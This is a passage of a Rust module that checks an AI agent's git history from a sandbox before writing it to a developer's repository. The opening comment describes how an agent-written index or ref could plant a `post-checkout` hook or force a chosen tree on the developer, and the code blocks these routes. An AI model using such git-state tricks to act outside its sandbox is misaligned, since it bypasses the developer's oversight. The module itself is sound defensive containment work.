//! History: the agent's commits come back as git objects and quarantine refs, never as
//! `.git` files.
//!
//! The sandbox's `.git` is hostile like everything else it wrote: an index names the files
//! the developer's next `git checkout -- .` writes (`.git/hooks/post-checkout` among them),
//! a ref makes `git reset --hard` write whatever tree the agent chose. So [`crate::promote`]
//! never writes a file below a `.git`, and this module carries the history instead:
//!
//! 1. [`prepare`] reads the agent's branch refs (`.git/HEAD`, `.git/refs/heads/*`,
//!    `.git/packed-refs` of the upper dir) as plain text with strict parsing, and copies the
//!    agent's new object files (loose objects and `pack/*.pack|*.idx`, regular files only,
//!    through the upper dir's no-follow reader, bounded in size) into a private temporary
//!    directory. Objects are read with gitoxide from that copy first and then from the
//!    target repository's own object store; every object read is hashed again and must
//!    match its id. No git runs, and no hook, config or index of the sandbox is read.
//! 2. Every new commit (reachable from a changed branch, not in the target's store) is
//!    checked: each tree entry that is not identical (path, mode, id) to an entry of one of
//!    its parents' trees must pass [`Rules::check`], git's own path rules
//!    (`gix_validate::path::component` with the NTFS and HFS protections), is no gitlink and
//!    no `.gitmodules`, and a symlink must pass the rules promotion applies to symlink files.
//!    No directory of the tree may become a git directory ([`is_git_dir_names`]).
//! 3. [`History::write`] writes the accepted objects into the target's `.git/objects` as
//!    loose objects (temp file + rename, nothing followed, the target's owner) and one ref
//!    per changed branch under `refs/agent-sandbox/NAMESPACE/`. The target's index, config,
//!    hooks and HEAD are never written. [`History::advance`] is the explicit, checked
//!    fast-forward of the developer's current branch (`promote --advance`).

use std::collections::{BTreeMap, HashMap, HashSet, VecDeque};
use std::ffi::{CString, OsStr};
use std::fs::File;
use std::io::{Read as _, Write as _};
use std::os::fd::{AsFd as _, OwnedFd};
use std::os::unix::ffi::OsStrExt as _;
use std::path::{Path, PathBuf};

use gix_hash::ObjectId;
use gix_object::bstr::ByteSlice as _;
use gix_object::{Exists as _, Find as _, FindHeader as _, Kind};
use rustix::fs::{AtFlags, Mode, OFlags, ResolveFlags};
use rustix::io::Errno;
use sha2::{Digest as _, Sha256};

use crate::escape::{escape_bytes, is_unsafe_char};
use crate::promote::{
    Existing, PromoteError, Refusal, Rules, chown_if_needed, io_at, lookup, names_of, resolve_link,
};
use crate::scratch::{Change, ChangeKind, ExactReader, FileKind, open_root, open_source};

/// At most this many bytes of object files are copied out of the sandbox, and at most this
/// many bytes of objects (inflated) are written to the target.
pub const MAX_HISTORY_BYTES: u64 = 2 << 30;
/// The largest single object read (a delta chain can claim any size).
pub const MAX_OBJECT_BYTES: u64 = 512 << 20;
/// The largest ref file, `HEAD` or `packed-refs` read from the sandbox.
const MAX_REF_FILE: u64 = 16 << 20;
/// The longest symlink target git checks out on Linux.
const MAX_LINK: u64 = 4096;
/// At most this many new commits come back in one promotion.
pub const MAX_COMMITS: usize = 100_000;

const HASH: gix_hash::Kind = gix_hash::Kind::Sha1;

/// Names that, beside a `HEAD`, make git take a directory for a git directory: `objects`
/// and `refs` (found directly), `commondir` (which sends git to another directory for them)
/// and `gitdir`.
const GIT_DIR_NAMES: [&str; 4] = ["objects", "refs", "commondir", "gitdir"];

/// Whether a directory holding `names` is (or, with what git finds elsewhere, may be) a git
/// directory by git's own discovery rules: a `HEAD` beside `objects`, `refs`, `commondir` or
/// `gitdir`. Names are compared as a case-insensitive filesystem would (ASCII case).
pub fn is_git_dir_names<'a>(names: impl IntoIterator<Item = &'a [u8]>) -> bool {
    let mut head = false;
    let mut other = false;
    for n in names {
        if n.eq_ignore_ascii_case(b"HEAD") {
            head = true;
        } else if GIT_DIR_NAMES
            .iter()
            .any(|g| n.eq_ignore_ascii_case(g.as_bytes()))
        {
            other = true;
        }
    }
    head && other
}

/// Whether `c` names a `.git` as a case-insensitive filesystem would.
pub(crate) fn is_dot_git(c: &[u8]) -> bool {
    c.eq_ignore_ascii_case(b".git")
}

/// One branch the agent changed, and where it comes back.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RefUpdate {
    /// The agent's ref (`refs/heads/main`, or `HEAD` when it was detached).
    pub agent: String,
    /// The quarantine ref written in the target (`refs/agent-sandbox/NS/heads/main`).
    pub quarantine: String,
    /// The commit it names.
    pub oid: ObjectId,
}

/// A commit that comes back.
#[derive(Debug, Clone)]
pub struct NewCommit {
    /// Its id.
    pub id: ObjectId,
    /// The first line of its message, as stored.
    pub subject: Vec<u8>,
}

impl NewCommit {
    /// `commit abc1234 subject` with the subject escaped for a terminal.
    pub fn describe(&self) -> String {
        let short = self.id.to_hex_with_len(7);
        format!("commit {short} {}", escape_bytes(&self.subject))
    }
}

/// A refused part of the history, listed like a refused file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HistoryRefusal {
    /// The commit whose tree holds it (none for a ref or object file problem).
    pub commit: Option<ObjectId>,
    /// The path in that commit's tree (or the `.git` file concerned).
    pub path: PathBuf,
    /// Why.
    pub why: Refusal,
}

impl std::fmt::Display for HistoryRefusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let path = crate::escape::escape_path(&self.path);
        match self.commit {
            Some(c) => write!(f, "commit {} /{path}: {}", c.to_hex_with_len(7), self.why),
            None => write!(f, "/{path}: {}", self.why),
        }
    }
}

/// The fast-forward `--advance` makes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Advance {
    /// The developer's current branch (`refs/heads/main`).
    pub branch: String,
    /// What it names now (none: an unborn branch).
    pub from: Option<ObjectId>,
    /// The agent's commit for it.
    pub to: ObjectId,
}

/// Errors that stop `--advance` before anything is written.
#[derive(Debug, thiserror::Error)]
pub enum AdvanceError {
    /// The target has no HEAD naming a branch.
    #[error(
        "cannot advance: the target's HEAD does not name a branch ({why}); nothing was changed (docs/promote.md#advance)"
    )]
    NoBranch {
        /// What HEAD holds instead.
        why: String,
    },
    /// The agent did not change the developer's branch.
    #[error(
        "cannot advance {branch}: the sandbox has no new commits for it; nothing was changed (docs/promote.md#advance)"
    )]
    NotChanged {
        /// The branch.
        branch: String,
    },
    /// The developer's branch moved: the agent's commit does not descend from it.
    #[error(
        "cannot advance {branch}: it is at {current} in the target, which the sandbox's {agent} does not descend from (the branch moved since the sandbox started); nothing was changed (docs/promote.md#advance)"
    )]
    Moved {
        /// The branch.
        branch: String,
        /// Its commit in the target.
        current: String,
        /// The agent's commit.
        agent: String,
    },
    /// Another git holds the branch's lock.
    #[error(
        "cannot advance {branch}: {lock} exists (another git is updating it); nothing was changed"
    )]
    Locked {
        /// The branch.
        branch: String,
        /// The lock file.
        lock: String,
    },
}

/// Errors of the history part of promotion.
#[derive(Debug, thiserror::Error)]
pub enum HistoryError {
    /// A file operation failed.
    #[error(transparent)]
    Promote(#[from] PromoteError),
    /// The target's repository cannot take the history.
    #[error(
        "{}: {why} (docs/promote.md#history)",
        crate::escape::escape_path(path)
    )]
    Target {
        /// The target's `.git` or file concerned.
        path: PathBuf,
        /// Why.
        why: String,
    },
    /// `--advance` refused.
    #[error(transparent)]
    Advance(#[from] AdvanceError),
}

/// What [`prepare`] found: the branches and commits that come back, and what is refused.
pub struct History {
    /// Changed branches, by agent ref name.
    pub refs: Vec<RefUpdate>,
    /// New commits, newest first (each before its parents).
    pub commits: Vec<NewCommit>,
    /// Refusals (nothing may be written when there are any).
    pub refused: Vec<HistoryRefusal>,
    /// The checked fast-forward, when asked.
    pub advance: Option<Advance>,
    /// `.git` entries of the change set that are not carried as files (index, logs, ...).
    pub not_carried: usize,
    /// `sha256:` over the refs and commits (not `--advance`: an option, not a change).
    pub digest: String,
    objects: Vec<ObjectId>,
    odb: Option<gix_odb::Handle>,
    target: PathBuf,
    _copy: Option<tempfile::TempDir>,
}

impl std::fmt::Debug for History {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("History")
            .field("refs", &self.refs)
            .field("commits", &self.commits.len())
            .field("refused", &self.refused)
            .field("advance", &self.advance)
            .field("objects", &self.objects.len())
            .finish_non_exhaustive()
    }
}

/// Whether `path` is below the top-level `.git` of the workspace (`.git/...`).
pub fn is_history_path(path: &Path) -> bool {
    let mut it = path.iter();
    it.next() == Some(OsStr::new(".git")) && it.next().is_some()
}

/// An object id from exactly 40 lowercase hex digits.
fn parse_hex(s: &[u8]) -> Option<ObjectId> {
    if s.len() != 40 || !s.iter().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')) {
        return None;
    }
    ObjectId::from_hex(s).ok()
}

/// A ref file's content: 40 hex digits and a newline (the newline may be missing).
fn parse_ref_file(content: &[u8]) -> Option<ObjectId> {
    parse_hex(content.strip_suffix(b"\n").unwrap_or(content))
}

/// `HEAD`: `ref: refs/heads/NAME` or a detached id.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Head {
    Branch(String),
    Detached(ObjectId),
}

fn parse_head(content: &[u8]) -> Option<Head> {
    let line = content.strip_suffix(b"\n").unwrap_or(content);
    if let Some(name) = line.strip_prefix(b"ref: ") {
        let name = std::str::from_utf8(name).ok()?;
        return valid_branch(name).then(|| Head::Branch(name.to_owned()));
    }
    parse_hex(line).map(Head::Detached)
}

/// `refs/heads/NAME` that git's check-ref-format accepts.
fn valid_branch(name: &str) -> bool {
    name.strip_prefix("refs/heads/")
        .is_some_and(|b| !b.is_empty())
        && !name.chars().any(is_unsafe_char)
        && gix_validate::reference::branch_name(name.as_bytes().as_bstr()).is_ok()
}

/// `packed-refs`, strictly: an optional `# pack-refs with:` header, `HEX NAME` lines and
/// `^HEX` peeled lines after a ref. Only branches are returned.
fn parse_packed_refs(content: &[u8]) -> Result<BTreeMap<String, ObjectId>, String> {
    let mut out = BTreeMap::new();
    let mut last_ref = false;
    for (i, line) in content.split(|b| *b == b'\n').enumerate() {
        let n = i + 1;
        if line.is_empty() {
            continue;
        }
        if i == 0 && line.starts_with(b"# pack-refs with:") {
            continue;
        }
        if let Some(peeled) = line.strip_prefix(b"^") {
            if !last_ref || parse_hex(peeled).is_none() {
                return Err(format!("line {n}: a peeled line that follows no ref"));
            }
            last_ref = false;
            continue;
        }
        let (hex, name) = line
            .split_once_str(" ")
            .ok_or_else(|| format!("line {n}: not `HEX NAME`"))?;
        let oid = parse_hex(hex).ok_or_else(|| format!("line {n}: not a 40-digit object id"))?;
        let name = std::str::from_utf8(name).map_err(|_| format!("line {n}: not UTF-8"))?;
        if gix_validate::reference::name(name.as_bytes().as_bstr()).is_err()
            || name.chars().any(is_unsafe_char)
        {
            return Err(format!("line {n}: not a valid ref name"));
        }
        if name.starts_with("refs/heads/") {
            out.insert(name.to_owned(), oid);
        }
        last_ref = true;
    }
    Ok(out)
}

/// Reads a regular file of at most `max` bytes below `dir` without following any link.
fn read_beneath(dir: &OwnedFd, rel: &Path, max: u64) -> Result<Option<Vec<u8>>, Errno> {
    let fd = match rustix::fs::openat2(
        dir,
        rel,
        OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::CLOEXEC,
        Mode::empty(),
        ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
    ) {
        Ok(fd) => fd,
        Err(Errno::NOENT | Errno::NOTDIR) => return Ok(None),
        Err(e) => return Err(e),
    };
    let st = rustix::fs::fstat(&fd)?;
    if rustix::fs::FileType::from_raw_mode(st.st_mode) != rustix::fs::FileType::RegularFile {
        return Err(Errno::INVAL);
    }
    let mut out = Vec::new();
    File::from(fd)
        .take(max + 1)
        .read_to_end(&mut out)
        .map_err(|e| Errno::from_io_error(&e).unwrap_or(Errno::IO))?;
    if out.len() as u64 > max {
        return Err(Errno::FBIG);
    }
    Ok(Some(out))
}

/// Reads a changed file of the upper dir (at most `max` bytes) through the no-follow reader.
fn read_upper(
    upper_fd: &OwnedFd,
    upper: &Path,
    rel: &Path,
    max: u64,
) -> Result<Result<Vec<u8>, Refusal>, PromoteError> {
    let (f, st) = open_source(upper_fd, upper, rel)?;
    let size = crate::scratch::size_of(&st);
    if size > max {
        return Ok(Err(Refusal::History {
            why: format!("larger than {max} bytes"),
        }));
    }
    let mut out = Vec::new();
    ExactReader {
        inner: f,
        remaining: size,
    }
    .read_to_end(&mut out)
    .map_err(|source| PromoteError::Io {
        op: "read",
        path: upper.join(rel),
        source,
    })?;
    Ok(Ok(out))
}

/// The target repository's branches: loose `refs/heads/*` and `packed-refs` (the
/// developer's own files; unreadable lines are skipped).
fn target_branch(git: &OwnedFd, name: &str) -> Result<Option<ObjectId>, Errno> {
    if let Some(c) = read_beneath(git, Path::new(name), MAX_REF_FILE)? {
        return Ok(parse_ref_file(&c));
    }
    let Some(packed) = read_beneath(git, Path::new("packed-refs"), u64::MAX >> 1)? else {
        return Ok(None);
    };
    for line in packed.split(|b| *b == b'\n') {
        if let Some((hex, n)) = line.split_once_str(" ")
            && n == name.as_bytes()
        {
            return Ok(parse_hex(hex));
        }
    }
    Ok(None)
}

/// The target's `.git` directory (opened beneath it, nothing followed) and the target's owner,
/// whom every object and ref written there belongs to; for the writing steps, which need both.
fn target_git(target: &Path) -> Result<(OwnedFd, (u32, u32)), HistoryError> {
    let root = rustix::fs::open(
        target,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(io_at("open", target))?;
    let st = rustix::fs::fstat(&root).map_err(io_at("stat", target))?;
    let Some(git) = open_git(&root, target)? else {
        return Err(HistoryError::Target {
            path: target.join(".git"),
            why: "does not exist".to_owned(),
        });
    };
    Ok((git, (st.st_uid, st.st_gid)))
}

/// Opens the target's `.git` directory beneath the target, following nothing.
fn open_git(root: &OwnedFd, target: &Path) -> Result<Option<OwnedFd>, HistoryError> {
    match rustix::fs::openat2(
        root,
        ".git",
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
        ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
    ) {
        Ok(fd) => Ok(Some(fd)),
        Err(Errno::NOENT) => Ok(None),
        Err(Errno::NOTDIR | Errno::LOOP) => Err(HistoryError::Target {
            path: target.join(".git"),
            why: "is not a directory (a worktree, a submodule or a link): promote the history into the repository's main checkout".to_owned(),
        }),
        Err(e) => Err(io_at("open", &target.join(".git"))(e).into()),
    }
}

/// Reads and checks objects: from the private copy of the agent's objects, then from the
/// target's store (the copy lists it as its alternate). Every object is hashed again.
struct Objects<'a> {
    all: &'a gix_odb::Handle,
    base: &'a gix_odb::Handle,
    /// Bytes read so far (inflated).
    read: u64,
}

/// Why an object could not be used.
fn bad(id: &ObjectId, why: impl std::fmt::Display) -> Refusal {
    Refusal::History {
        why: format!("object {} {why}", id.to_hex()),
    }
}

impl Objects<'_> {
    fn in_base(&self, id: &ObjectId) -> bool {
        self.base.exists(id)
    }

    fn read(&mut self, id: &ObjectId, want: Kind) -> Result<Vec<u8>, Refusal> {
        let header = match self.all.try_header(id) {
            Ok(Some(h)) => h,
            Ok(None) => return Err(bad(id, "is missing")),
            Err(e) => return Err(bad(id, format_args!("cannot be read: {e}"))),
        };
        if header.kind != want {
            return Err(bad(id, format_args!("is a {}, not a {want}", header.kind)));
        }
        if header.size > MAX_OBJECT_BYTES {
            return Err(bad(
                id,
                format_args!("is larger than {MAX_OBJECT_BYTES} bytes"),
            ));
        }
        self.read = self.read.saturating_add(header.size);
        if self.read > MAX_HISTORY_BYTES.saturating_mul(4) {
            return Err(bad(id, "takes the history past its read limit"));
        }
        let mut buf = Vec::new();
        let data = match self.all.try_find(id, &mut buf) {
            Ok(Some(d)) => d,
            Ok(None) => return Err(bad(id, "is missing")),
            Err(e) => return Err(bad(id, format_args!("cannot be read: {e}"))),
        };
        if data.kind != want {
            return Err(bad(id, format_args!("is a {}, not a {want}", data.kind)));
        }
        match gix_object::compute_hash(HASH, data.kind, data.data) {
            Ok(h) if h == *id => {}
            _ => return Err(bad(id, "does not hash to its id")),
        }
        let out = data.data.to_vec();
        Ok(out)
    }
}

/// A tree's entries: (name, mode, id).
type Entries = Vec<(Vec<u8>, u16, ObjectId)>;

const MODE_TREE: u16 = 0o040000;
const MODE_BLOB: u16 = 0o100644;
const MODE_EXEC: u16 = 0o100755;
const MODE_LINK: u16 = 0o120000;
const MODE_GITLINK: u16 = 0o160000;

fn parse_tree(id: &ObjectId, data: &[u8]) -> Result<Entries, Refusal> {
    let tree = gix_object::TreeRef::from_bytes(data, HASH)
        .map_err(|e| bad(id, format_args!("is not a valid tree: {e}")))?;
    let mut seen = HashSet::new();
    let mut out = Vec::with_capacity(tree.entries.len());
    for e in tree.entries {
        let name = e.filename.to_vec();
        if !seen.insert(name.clone()) {
            return Err(bad(id, format_args!("names {} twice", escape_bytes(&name))));
        }
        out.push((name, e.mode.value(), e.oid.to_owned()));
    }
    Ok(out)
}

/// The tree checker: every entry of a new commit that is not identical to one of its
/// parents' must pass the rules.
struct Checker<'a, 'o> {
    objects: &'a mut Objects<'o>,
    rules: &'a Rules,
    root: &'a OwnedFd,
    refused: Vec<HistoryRefusal>,
    trees: HashMap<ObjectId, Entries>,
    /// Names the file part of the same promotion adds, by directory: a checked-out tree
    /// and promoted files together must not make a git directory either.
    planned: HashMap<PathBuf, Vec<Vec<u8>>>,
    /// The symlinks the file part adds, with the path each names: neither a tree's link
    /// nor a promoted one may resolve through the other.
    file_links: Vec<(PathBuf, PathBuf)>,
}

impl Checker<'_, '_> {
    /// Notes the names the change set's files will add to each directory, and where its
    /// symlinks resolve, for the checks of the commits' trees against the plan.
    fn plan_files(&mut self, changes: &[Change]) {
        for c in changes {
            if c.kind != ChangeKind::Deleted
                && !is_history_path(&c.path)
                && let Some(name) = c.path.file_name()
            {
                if let Some(t) = &c.link_target
                    && let Ok(resolved) = resolve_link(&c.path, t)
                {
                    self.file_links.push((c.path.clone(), resolved));
                }
                let dir = c.path.parent().unwrap_or(Path::new("")).to_owned();
                self.planned
                    .entry(dir)
                    .or_default()
                    .push(name.as_bytes().to_vec());
            }
        }
    }

    fn tree(&mut self, id: &ObjectId) -> Result<Entries, Refusal> {
        if let Some(t) = self.trees.get(id) {
            return Ok(t.clone());
        }
        let data = self.objects.read(id, Kind::Tree)?;
        let entries = parse_tree(id, &data)?;
        if self.trees.len() < 100_000 {
            self.trees.insert(*id, entries.clone());
        }
        Ok(entries)
    }

    fn refuse(&mut self, commit: ObjectId, path: PathBuf, why: Refusal) {
        self.refused.push(HistoryRefusal {
            commit: Some(commit),
            path,
            why,
        });
    }

    /// Checks commit `id` (tree `tree`) against its parents' trees.
    fn commit(&mut self, id: ObjectId, tree: ObjectId, parents: &[ObjectId]) {
        let mut parent_trees = Vec::new();
        for p in parents {
            match self
                .objects
                .read(p, Kind::Commit)
                .and_then(|d| commit_fields(p, &d))
            {
                Ok((t, _, _)) => parent_trees.push(t),
                Err(why) => return self.refuse(id, PathBuf::new(), why),
            }
        }
        if let Err(why) = self.check_tree(id, tree, Path::new(""), tree, &parent_trees) {
            self.refuse(id, PathBuf::new(), why);
        }
        // A promoted symlink through a symlink of the checked-out tree.
        for (link, resolved) in self.file_links.clone() {
            match self.link_in_tree(tree, &resolved) {
                Ok(Some(via)) => self.refuse(id, link, Refusal::SymlinkThroughLink { via }),
                Ok(None) => {}
                Err(why) => self.refuse(id, PathBuf::new(), why),
            }
        }
    }

    /// The first prefix of `path` that is a symlink in tree `root`, if any.
    fn link_in_tree(&mut self, root: ObjectId, path: &Path) -> Result<Option<PathBuf>, Refusal> {
        let mut tree = Some(root);
        let mut prefix = PathBuf::new();
        for comp in path.iter() {
            prefix.push(comp);
            let Some(t) = tree else {
                return Ok(None);
            };
            match self
                .tree(&t)?
                .into_iter()
                .find(|(n, _, _)| n.as_slice() == comp.as_bytes())
            {
                Some((_, MODE_LINK, _)) => return Ok(Some(prefix)),
                Some((_, MODE_TREE, o)) => tree = Some(o),
                _ => tree = None,
            }
        }
        Ok(None)
    }

    /// Checks the tree `tree` at `dir` of commit `commit` (root tree `root_tree`) against
    /// the parents' trees at the same path. An unreadable object stops the check (`Err`).
    fn check_tree(
        &mut self,
        commit: ObjectId,
        root_tree: ObjectId,
        dir: &Path,
        tree: ObjectId,
        parents: &[ObjectId],
    ) -> Result<(), Refusal> {
        if parents.contains(&tree) {
            return Ok(());
        }
        let entries = self.tree(&tree)?;
        let mut parent_entries: Vec<HashMap<Vec<u8>, (u16, ObjectId)>> = Vec::new();
        for p in parents {
            let pe = self.tree(p)?;
            parent_entries.push(pe.into_iter().map(|(n, m, o)| (n, (m, o))).collect());
        }
        let mut changed = false;
        for (name, mode, oid) in &entries {
            if parent_entries
                .iter()
                .any(|p| p.get(name) == Some(&(*mode, *oid)))
            {
                continue;
            }
            changed = true;
            let path = dir.join(OsStr::from_bytes(name));
            let kind = match self.entry_kind(&path, name, *mode) {
                Ok(kind) => kind,
                Err(why) => {
                    self.refuse(commit, path, why);
                    continue;
                }
            };
            match kind {
                FileKind::Dir => {
                    let sub: Vec<ObjectId> = parent_entries
                        .iter()
                        .filter_map(|p| match p.get(name) {
                            Some((MODE_TREE, o)) => Some(*o),
                            _ => None,
                        })
                        .collect();
                    self.check_tree(commit, root_tree, &path, *oid, &sub)?;
                }
                FileKind::Symlink => {
                    if let Some(why) = self.check_link(root_tree, &path, oid)? {
                        self.refuse(commit, path, why);
                    }
                }
                _ => {}
            }
        }
        if changed && self.ends_a_repo(dir, &entries) {
            self.refuse(commit, dir.to_owned(), Refusal::EmbeddedRepo);
        }
        Ok(())
    }

    /// What a changed tree entry is, or why it is refused: a path component git would not
    /// check out safely, a submodule, an unknown mode, a path the rules refuse, or
    /// `.gitmodules`.
    fn entry_kind(&self, path: &Path, name: &[u8], mode: u16) -> Result<FileKind, Refusal> {
        let opts = gix_validate::path::component::Options {
            protect_windows: false,
            protect_hfs: true,
            protect_ntfs: true,
        };
        let git_mode = (mode == MODE_LINK).then_some(gix_validate::path::component::Mode::Symlink);
        if let Err(e) = gix_validate::path::component(name.as_bstr(), git_mode, opts) {
            return Err(Refusal::GitPath { why: e.to_string() });
        }
        let kind = match mode {
            MODE_TREE => FileKind::Dir,
            MODE_BLOB | MODE_EXEC => FileKind::File,
            MODE_LINK => FileKind::Symlink,
            MODE_GITLINK => return Err(Refusal::Gitlink),
            other => {
                return Err(Refusal::TreeMode {
                    mode: u32::from(other),
                });
            }
        };
        if let Some(why) = self.rules.check(path, kind, false) {
            return Err(why);
        }
        if name.eq_ignore_ascii_case(b".gitmodules") {
            return Err(Refusal::Protected {
                name: ".gitmodules".to_owned(),
            });
        }
        Ok(kind)
    }

    /// Whether directory `dir`, checked out with `entries`, is a git directory to git's
    /// discovery, which sees the checked-out tree together with what the target's directory
    /// already holds there (untracked files stay) and what the change set adds.
    fn ends_a_repo(&self, dir: &Path, entries: &[(Vec<u8>, u16, ObjectId)]) -> bool {
        let mut names: Vec<Vec<u8>> = entries.iter().map(|(n, _, _)| n.clone()).collect();
        names.extend(self.planned.get(dir).into_iter().flatten().cloned());
        if let Ok(Ok(Existing::Dir)) = lookup(self.root, dir, &Default::default())
            && let Ok(fd) = open_beneath_dir(self.root, dir)
            && let Ok(have) = names_of(&fd, dir)
        {
            names.extend(have.into_iter().map(CString::into_bytes));
        }
        is_git_dir_names(names.iter().map(Vec::as_slice))
    }

    /// The rules for a symlink entry at `path` whose blob is `oid`.
    fn check_link(
        &mut self,
        root_tree: ObjectId,
        path: &Path,
        oid: &ObjectId,
    ) -> Result<Option<Refusal>, Refusal> {
        let data = self.objects.read(oid, Kind::Blob)?;
        if data.len() as u64 > MAX_LINK || data.is_empty() || data.contains(&0) {
            return Ok(Some(Refusal::BadName));
        }
        match std::str::from_utf8(&data) {
            Ok(s) if !s.chars().any(is_unsafe_char) => {}
            _ => return Ok(Some(Refusal::BadName)),
        }
        let target = Path::new(OsStr::from_bytes(&data));
        let resolved = match resolve_link(path, target) {
            Ok(r) => r,
            Err(r) => return Ok(Some(r)),
        };
        if resolved.iter().any(|c| is_dot_git(c.as_bytes())) {
            return Ok(Some(Refusal::SymlinkIntoGit));
        }
        if resolved.as_os_str().is_empty() {
            return Ok(None);
        }
        if let Some(why) = self.rules.check(&resolved, FileKind::Unknown, false) {
            return Ok(Some(Refusal::SymlinkToRefused { why: Box::new(why) }));
        }
        // Through another symlink: of the commit's tree, or one the target already holds
        // where the tree has nothing.
        let mut tree = Some(root_tree);
        let mut prefix = PathBuf::new();
        for comp in resolved.iter() {
            prefix.push(comp);
            let entry = match tree {
                Some(t) => self
                    .tree(&t)?
                    .into_iter()
                    .find(|(n, _, _)| n.as_slice() == comp.as_bytes()),
                None => None,
            };
            let through = match entry {
                Some((_, MODE_LINK, _)) => true,
                Some((_, MODE_TREE, o)) => {
                    tree = Some(o);
                    false
                }
                Some(_) => {
                    tree = None;
                    false
                }
                None => {
                    tree = None;
                    self.file_links.iter().any(|(l, _)| *l == prefix)
                        || matches!(
                            lookup(self.root, &prefix, &Default::default()),
                            Ok(Ok(Existing::Symlink) | Err(_))
                        )
                }
            };
            if through {
                return Ok(Some(Refusal::SymlinkThroughLink { via: prefix }));
            }
        }
        Ok(None)
    }
}

fn open_beneath_dir(root: &OwnedFd, dir: &Path) -> Result<OwnedFd, Errno> {
    if dir.as_os_str().is_empty() {
        return rustix::io::fcntl_dupfd_cloexec(root, 0);
    }
    rustix::fs::openat2(
        root,
        dir,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
        ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
    )
}

/// A commit's tree, parents and subject.
fn commit_fields(
    id: &ObjectId,
    data: &[u8],
) -> Result<(ObjectId, Vec<ObjectId>, Vec<u8>), Refusal> {
    let c = gix_object::CommitRef::from_bytes(data, HASH)
        .map_err(|e| bad(id, format_args!("is not a valid commit: {e}")))?;
    let tree = ObjectId::from_hex(c.tree).map_err(|_| bad(id, "has a bad tree id"))?;
    let mut parents = Vec::new();
    for p in &c.parents {
        parents.push(ObjectId::from_hex(p).map_err(|_| bad(id, "has a bad parent id"))?);
    }
    let subject = c
        .message
        .lines()
        .find(|l| !l.trim().is_empty())
        .unwrap_or_default()
        .to_vec();
    Ok((tree, parents, subject))
}

/// What the caller asks of [`prepare`].
#[derive(Debug, Clone)]
pub struct Options<'a> {
    /// The quarantine namespace: `refs/agent-sandbox/NAMESPACE/...` (a change or sandbox id).
    pub namespace: &'a str,
    /// Check (and later make) the fast-forward of the target's current branch.
    pub advance: bool,
    /// The change set's size limit (the sandbox's `workspace_size`): the object files copied
    /// for reading count against it, as files do, besides [`MAX_HISTORY_BYTES`].
    pub max_bytes: u64,
}

/// Reads, copies and checks the history in `changes` (the upper dir's `.git` entries)
/// against the repository in `target`. Nothing in `target` is written.
pub fn prepare(
    upper: &Path,
    changes: &[Change],
    target: &Path,
    rules: &Rules,
    opts: &Options<'_>,
) -> Result<History, HistoryError> {
    let mut h = History::nothing(target);
    let git_changes: Vec<&Change> = changes
        .iter()
        .filter(|c| is_history_path(&c.path))
        .collect();
    h.not_carried = git_changes.len();
    let root = rustix::fs::open(
        target,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(io_at("open", target))?;
    let upper_fd = open_root(upper, OFlags::RDONLY).map_err(PromoteError::from)?;

    // 1. The agent's branches, as plain text.
    let (agent, detached) = agent_branches(&upper_fd, upper, &git_changes, &mut h)?;

    let git = open_git(&root, target)?;
    // 2. Which of them changed: their value differs from the target's branch.
    quarantine_changed(git.as_ref(), target, &agent, detached, opts, &mut h)?;
    if h.refs.is_empty() || !h.refused.is_empty() {
        return nothing_to_carry(h, git.as_ref(), opts);
    }
    let Some(git) = git else {
        return Err(HistoryError::Target {
            path: target.join(".git"),
            why: "does not exist: the sandbox's commits need a repository to come back to"
                .to_owned(),
        });
    };

    // 3. A private copy of the agent's object files.
    let Some((copy, all, base)) = copy_objects(
        &upper_fd,
        upper,
        &git_changes,
        target,
        opts.max_bytes,
        &mut h,
    )?
    else {
        h.digest = history_digest(&h);
        return Ok(h);
    };
    let mut objects = Objects {
        all: &all,
        base: &base,
        read: 0,
    };

    // 4. New commits: reachable from a changed branch, not in the target's store.
    let found = new_commits(&mut objects, &mut h);

    // 5. Every new commit's tree against its parents'.
    let mut checker = Checker {
        objects: &mut objects,
        rules,
        root: &root,
        refused: Vec::new(),
        trees: HashMap::new(),
        planned: HashMap::new(),
        file_links: Vec::new(),
    };
    checker.plan_files(changes);
    for (id, tree, parents) in &found {
        checker.commit(*id, *tree, parents);
    }
    let refused = std::mem::take(&mut checker.refused);
    h.refused.extend(refused);

    // 6. The objects to write.
    if h.refused.is_empty() {
        h.objects = objects_to_write(&mut objects, &found, &mut h);
    }

    // 7. The fast-forward, checked now so that a refusal changes nothing.
    if opts.advance && h.refused.is_empty() {
        h.advance = Some(plan_advance(&git, &h.refs, &mut objects)?);
    }
    h.odb = Some(all);
    h._copy = Some(copy);
    h.refused
        .sort_by(|a, b| (a.commit, &a.path).cmp(&(b.commit, &b.path)));
    h.refused.dedup();
    h.digest = history_digest(&h);
    Ok(h)
}

impl History {
    /// A history that carries nothing back to `target` (yet).
    fn nothing(target: &Path) -> History {
        History {
            refs: Vec::new(),
            commits: Vec::new(),
            refused: Vec::new(),
            advance: None,
            not_carried: 0,
            digest: String::new(),
            objects: Vec::new(),
            odb: None,
            target: target.to_owned(),
            _copy: None,
        }
    }
}

/// Queues each changed branch (and a detached HEAD) for the quarantine namespace, refusing
/// one whose quarantine name git would not accept.
fn quarantine_changed(
    git: Option<&OwnedFd>,
    target: &Path,
    agent: &BTreeMap<String, ObjectId>,
    detached: Option<ObjectId>,
    opts: &Options<'_>,
    h: &mut History,
) -> Result<(), HistoryError> {
